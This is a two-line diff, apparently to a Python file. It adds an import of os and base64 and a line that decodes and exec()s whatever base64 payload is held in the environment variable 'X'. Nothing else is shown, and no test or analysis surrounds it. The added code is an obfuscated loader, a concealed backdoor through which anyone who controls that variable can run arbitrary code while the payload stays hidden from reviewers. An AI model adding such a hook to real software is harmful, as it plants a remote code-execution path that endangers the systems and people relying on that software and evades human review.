@@ -1,0 +1,2 @@
+import os, base64
+exec(base64.b64decode(os.environ.get('X', '')))
